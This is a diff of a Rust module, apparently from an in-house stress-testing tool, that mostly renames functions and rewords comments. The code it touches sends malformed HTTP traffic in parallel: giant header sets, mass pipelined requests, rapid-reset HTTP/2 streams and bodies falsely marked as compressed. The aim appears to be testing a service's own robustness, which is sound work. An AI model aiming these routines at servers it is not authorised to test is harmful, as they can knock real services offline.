@@ -1,25 +1,25 @@
-//! Requests that no client library would send.
+//! Attacks with requests that no client library would send.
 
 use std::io;
 
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 
 use crate::attacker::Attacker;
-use crate::line::{Line, request};
+use crate::raw_connection::{RawConnection, request};
 
-/// Sends all of it as it is, and reads until the server closes.
-async fn send(attacker: &Attacker, line: &mut Line, bytes: &[u8]) -> io::Result<()> {
-    attacker.count(|tally| tally.requests += 1);
+/// Sends these bytes unchanged, and reads until the server closes the connection.
+async fn send_and_read_to_end(attacker: &Attacker, line: &mut RawConnection, bytes: &[u8]) -> io::Result<()> {
+    attacker.update_tally(|tally| tally.requests += 1);
     line.stream.write_all(bytes).await?;
     line.stream.shutdown().await?;
     let mut answer = Vec::new();
     (&mut line.stream).take(1 << 20).read_to_end(&mut answer).await?;
     let is_refused = !answer.starts_with(b"HTTP/1.1 2");
-    attacker.count(|tally| tally.refused += u64::from(is_refused));
+    attacker.update_tally(|tally| tally.refused += u64::from(is_refused));
     Ok(())
 }
 
-/// Many headers, long headers, long paths and queries.
+/// Sends many headers, long headers, and long paths and queries.
 pub(super) async fn giant_heads(attacker: &Attacker) {
     let many: String = (0..20_000).map(|n| format!("x-{n}: {n}\r\n")).collect();
     let heads = [
@@ -30,34 +30,34 @@ pub(super) async fn giant_heads(attacker: &Attacker) {
         format!("GET /live HTTP/1.1\r\nhost: x\r\nx-forwarded-for: {}\r\n\r\n", "1.2.3.4, ".repeat(40_000)),
     ];
     attacker
-        .many(20, async |number| {
+        .repeat_in_parallel(20, async |number| {
             let mut line = attacker.connect(number).await?;
-            send(attacker, &mut line, heads[number % heads.len()].as_bytes()).await
+            send_and_read_to_end(attacker, &mut line, heads[number % heads.len()].as_bytes()).await
         })
         .await;
 }
 
-/// Thousands of requests on each connection, whose answers nobody takes.
-pub(super) async fn pipelined(attacker: &Attacker) {
+/// Sends thousands of requests over each connection, without reading the answers.
+pub(super) async fn pipelined_requests(attacker: &Attacker) {
     let key = format!("x-api-key: {}", attacker.target.key);
     let requests: Vec<u8> = ["/api/openapi.json", "/api/stats", "/api/content?per_page=100"]
         .map(|path| request("GET", path, &key, ""))
         .concat()
         .repeat(1_000);
     attacker
-        .many(100, async |number| {
+        .repeat_in_parallel(100, async |number| {
             let mut line = attacker.connect(number).await?;
-            attacker.count(|tally| tally.requests += 3_000);
+            attacker.update_tally(|tally| tally.requests += 3_000);
             line.stream.write_all(&requests).await
         })
         .await;
 }
 
-/// HTTP/2 with streams that are reset at once, and bodies that claim to be packed.
+/// Sends HTTP/2 streams that are reset immediately, and bodies that claim to be compressed.
 pub(super) async fn other_protocols(attacker: &Attacker) {
     let mut http2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
     for stream in (1..20_000u32).step_by(2) {
-        // HEADERS that say `:method: GET`, `:scheme: http`, `:path: /`, then RST_STREAM.
+        // HEADERS with `:method: GET`, `:scheme: http`, and `:path: /`, then RST_STREAM.
         http2.extend_from_slice(&[0, 0, 3, 1, 5]);
         http2.extend_from_slice(&stream.to_be_bytes());
         http2.extend_from_slice(&[0x82, 0x86, 0x84, 0, 0, 4, 3, 0]);
@@ -75,9 +75,9 @@ pub(super) async fn other_protocols(attacker: &Attacker) {
         packed.resize(packed.len() + 59_999, 0);
     }
     attacker
-        .many(16, async |number| {
+        .repeat_in_parallel(16, async |number| {
             let mut line = attacker.connect(number).await?;
-            send(attacker, &mut line, if number.is_multiple_of(2) { &http2 } else { &packed }).await
+            send_and_read_to_end(attacker, &mut line, if number.is_multiple_of(2) { &http2 } else { &packed }).await
         })
         .await;
 }
